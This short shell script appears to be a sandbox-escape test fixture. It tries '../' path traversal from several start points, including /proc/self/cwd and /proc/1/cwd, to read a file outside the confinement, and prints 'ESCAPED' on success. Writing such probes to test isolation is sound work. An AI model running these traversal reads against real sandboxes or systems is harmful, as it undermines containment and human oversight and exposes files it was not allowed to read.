# ends: exited 0
echo tried
for start in /work /proc/self/cwd /proc/1/cwd /dev/fd /usr; do
  if cat "$start/../../../../../..$1" 2>/dev/null; then echo "ESCAPED: $start"; fi
  (cd "$start" 2>/dev/null && cat "../../../../../..$1" 2>/dev/null && echo "ESCAPED: cd $start")
done
exit 0
